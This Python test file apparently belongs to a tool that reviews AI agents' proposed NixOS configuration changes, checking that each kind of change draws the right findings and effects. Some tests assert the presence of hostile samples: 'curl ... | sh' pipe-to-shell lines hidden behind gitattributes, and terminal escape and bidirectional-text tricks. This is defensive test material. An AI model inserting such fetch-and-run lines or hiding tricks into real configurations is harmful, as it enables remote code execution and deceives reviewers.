"""The demo's manager: what it says it proposes is proposed, with real git, to a real hive."""

from __future__ import annotations

import asyncio
import itertools
import subprocess
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from hivetui.demo import drafts, home
from hivetui.demo.cast import Cast, cast, newcomer, shuffled
from hivetui.demo.drafts import DRAFTS, Draft, SpawnRequest
from hivetui.demo.manager import MOST_PENDING, Manager, manager_at_door
from hivetui.demo.stage import open_hive
from hivetui.engine.hive import LocalHive
from hivetui.engine.model.effect import EffectState
from hivetui.engine.model.findings import Severity
from hivetui.engine.model.names import port_of
from hivetui.engine.model.operations import Operation, OperationKind, OperationState
from hivetui.engine.model.proposals import Proposal, ProposalKind, ProposalState

pytestmark = [pytest.mark.slow, pytest.mark.timeout(300)]


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Cast]]:
    """The folder of a hive whose three agents run."""
    folder, patch = tmp_path_factory.mktemp("demo") / "hive", pytest.MonkeyPatch()
    patch.setenv("HIVETUI_EMBEDDED_NIX", "stand-in")
    patch.setenv("HIVETUI_EMBEDDED_BUILD_SECONDS", "0")
    try:
        yield folder, asyncio.run(peopled(folder))
    finally:
        home.clear(folder, keep=False)
        patch.undo()
    assert not folder.exists()


async def peopled(folder: Path) -> Cast:
    hive = await open_hive(folder)
    who = cast(hive.host, shuffled)
    operations = [await hive.begin(OperationKind.SPAWN, name) for name in who[:3]]
    for one in await asyncio.gather(*(ended(hive, operation) for operation in operations)):
        assert one.state is OperationState.SUCCEEDED, one.error
    return who


async def ended(hive: LocalHive, operation: Operation) -> Operation:
    async for _ in hive.follow(operation.id):
        pass
    return await hive.operation(operation.id)


turns = itertools.count(1)


class Theatre:
    """A hive, its agents, and their manager, who hardly waits."""

    def __init__(self, hive: LocalHive, who: Cast, manager: Manager) -> None:
        self.hive, self.who, self.manager = hive, who, manager

    async def proposed(self, draft: Draft | SpawnRequest) -> Proposal:
        found = await self.manager.propose(draft, next(turns))
        assert found is not None
        return (await self.hive.review(found)).proposal

    async def approved(self, draft: Draft) -> Operation:
        one = await self.proposed(draft)
        return await ended(self.hive, await self.hive.approve(one.id, one.commit, one.base))

    async def difference(self, one: Proposal) -> str:
        assert one.base is not None
        return b"".join([chunk async for chunk in self.hive.difference(one.id, one.base)]).decode()


@pytest.fixture
async def theatre(stage: tuple[Path, Cast]) -> AsyncIterator[Theatre]:
    """The hive with nothing that waits."""
    folder, who = stage
    hive = await open_hive(folder)
    for one in await hive.proposals():
        await hive.withdraw(one.id)
    async with manager_at_door(hive, who, pace=0.1) as manager:
        yield Theatre(hive, who, manager)


@dataclass(frozen=True)
class Kind:
    """A kind of change that the demo shows: the rules above info that find it, and what its effect is.

    `changed` is whether the agent would have another system, `units` are those that are added, `failure` what is said
    of one that fails.
    """

    draft: Draft
    rules: frozenset[str]
    state: EffectState = EffectState.KNOWN
    changed: bool | None = True
    units: tuple[str, ...] = ()
    surplus: tuple[str, ...] = ()
    failure: str = ""


KINDS = {
    "harmless": Kind(drafts.SEARCH, frozenset()),
    "a new flake input": Kind(
        drafts.INPUT,
        frozenset({"flake-input", "flake-changed", "lock-input"}),
        state=EffectState.FAILED,
        changed=None,
        failure="helpers",
    ),
    "a line behind gitattributes": Kind(
        drafts.ATTRIBUTES,
        frozenset({"git-attributes", "run-downloaded", "new-service", "service-command"}),
        units=("index.service",),
    ),
    "bidirectional characters": Kind(
        drafts.FISHY,
        frozenset({"hidden-text", "hidden-message", "run-downloaded", "new-service", "service-command"}),
        units=("tidy.service",),
    ),
    "an opened firewall": Kind(drafts.OPEN, frozenset({"nix-trust", "firewall"})),
    "no effect": Kind(drafts.REMARK, frozenset(), changed=False),
    "more than was intended": Kind(
        drafts.SURPLUS,
        frozenset({"intent-surplus", "new-service", "service-command"}),
        units=("tracker.service",),
        surplus=("packages curl", "units tracker.service"),
    ),
    "an evaluation that fails": Kind(
        drafts.TYPO, frozenset(), state=EffectState.FAILED, changed=None, failure="the nearest is ripgrep"
    ),
    "a build that fails": Kind(drafts.FAILING, frozenset(), state=EffectState.FAILED, failure="a link leads nowhere"),
}


@pytest.mark.parametrize("name", KINDS)
async def test_each_kind_of_change_is_told_by_its_findings_and_its_effect(theatre: Theatre, name: str) -> None:
    """As the first of the file: nothing of it is deployed yet."""
    kind = KINDS[name]
    assert kind.draft in DRAFTS
    one = await theatre.proposed(kind.draft)
    await ended(theatre.hive, await theatre.hive.preview(one.id))
    effect = await theatre.hive.effect(one.id)
    if kind is KINDS["a build that fails"] and effect.unknown:
        pytest.skip(effect.unknown[0].why)
    found = (await theatre.hive.findings(one.id)).findings
    assert {finding.rule for finding in found if finding.severity is not Severity.INFO} == kind.rules
    assert (effect.state, effect.changed, effect.units.added) == (kind.state, kind.changed, kind.units)
    assert (effect.intent.surplus if effect.intent else ()) == kind.surplus
    told = " ".join([*effect.failure.lines, effect.failure.hint or ""]) if effect.failure else ""
    assert kind.failure in told
    assert bool(told) is bool(kind.failure)


async def test_the_harmless_one_adds_one_package_as_it_says(theatre: Theatre) -> None:
    one = await theatre.proposed(drafts.SEARCH)
    await ended(theatre.hive, await theatre.hive.preview(one.id))
    effect = await theatre.hive.effect(one.id)
    assert [package.name for package in effect.packages.added] == ["ripgrep"]
    assert [option.option for option in effect.options] == ["environment.systemPackages"]
    assert effect.intent is not None
    assert effect.intent.match == ("packages ripgrep",)


async def test_the_one_with_attributes_hides_its_line_from_git_and_not_from_the_review(theatre: Theatre) -> None:
    one = await theatre.proposed(drafts.ATTRIBUTES)
    repo = theatre.hive.host.paths.proposed(one.agent)
    with_git = ["git", "-C", str(repo), "show", "HEAD"]
    assert b"198.51.100.7" not in await asyncio.to_thread(subprocess.check_output, with_git)
    assert "curl -s http://198.51.100.7/index | sh" in await theatre.difference(one)


OUTCOMES = (
    (drafts.SEARCH, OperationState.SUCCEEDED, ""),
    (drafts.MAILER, OperationState.SUCCEEDED, ""),
    (drafts.BIG, OperationState.SUCCEEDED, ""),
    (drafts.TYPO, OperationState.FAILED, "attribute 'ripgrepp' missing"),
    (drafts.BROKEN, OperationState.FAILED, ""),
    (drafts.FAILING, OperationState.FAILED, "a link leads nowhere"),
)


async def test_good_drafts_deploy_and_the_others_fail_as_they_should(theatre: Theatre) -> None:
    for draft, state, said in OUTCOMES:
        ended = await theatre.approved(draft)
        assert ended.state is state, (draft, ended.error)
        assert said in (ended.error or "")
    steps = {one.proposal: one.step for one in await theatre.hive.operations(ended=True)}
    assert "put back" in steps.values()  # the one that builds and does not come up


async def test_each_draft_begins_at_what_is_deployed(theatre: Theatre) -> None:
    refused = await theatre.proposed(drafts.MAILER)
    await theatre.hive.deny(refused.id, "no reports")
    review = await theatre.hive.review((await theatre.proposed(drafts.SEARCH)).id)
    assert len(review.commits) == 1
    assert "search.nix" in {change.path for change in review.files}
    assert "reporter.nix" not in {change.path for change in review.files}


async def test_a_bigger_one_has_several_commits_and_files(theatre: Theatre) -> None:
    review = await theatre.hive.review((await theatre.proposed(drafts.BIG)).id)
    assert len(review.commits) >= 2
    assert {"languages.nix", "NOTES.md"} <= {change.path for change in review.files}


async def test_the_fishy_one_is_as_hostile_as_it_should_be(theatre: Theatre) -> None:
    one = await theatre.proposed(drafts.FISHY)
    shown = await theatre.difference(one)
    assert "curl -s http://198.51.100.7/x | sh" in shown
    for hostile in ("\x1b[8m", "\u202e", "[@click=app.quit]"):
        assert hostile in shown
    assert "\x1b[2J" in (await theatre.hive.review(one.id)).message


async def test_an_amended_one_takes_the_first_back(theatre: Theatre) -> None:
    second = await theatre.proposed(drafts.AMENDED)
    *_, first, now = sorted(await theatre.hive.proposals(decided=True), key=lambda one: one.id)
    assert first.state is ProposalState.WITHDRAWN
    assert (now.id, now.state, now.submitted_by) == (second.id, ProposalState.PENDING, "hm1nd")
    assert first.commit != now.commit


async def test_a_wish_is_a_spawn_of_a_name_that_is_free(theatre: Theatre) -> None:
    one = await theatre.proposed(next(draft for draft in DRAFTS if isinstance(draft, SpawnRequest)))
    assert one.kind is ProposalKind.SPAWN
    known = {agent.name for agent in await theatre.hive.agents()}
    assert one.agent not in known
    assert port_of(one.agent) not in {port_of(name) for name in known}
    assert newcomer(theatre.hive.host, {*known, one.agent}) != one.agent


async def test_it_goes_on_and_stops_when_many_wait(theatre: Theatre) -> None:
    submitting = asyncio.create_task(theatre.manager.run(done=0))
    updates = theatre.hive.watch()
    while len(waiting := await theatre.hive.proposals()) < MOST_PENDING:
        await anext(updates)
    newest = await newest_id(theatre.hive)
    await theatre.hive.deny(waiting[0].id, "room for another")
    while await newest_id(theatre.hive) == newest:
        await anext(updates)
    await updates.aclose()
    submitting.cancel()
    await asyncio.wait((submitting,))
    assert len(await theatre.hive.proposals()) <= MOST_PENDING


async def newest_id(hive: LocalHive) -> int:
    return max(one.id for one in await hive.proposals(decided=True))
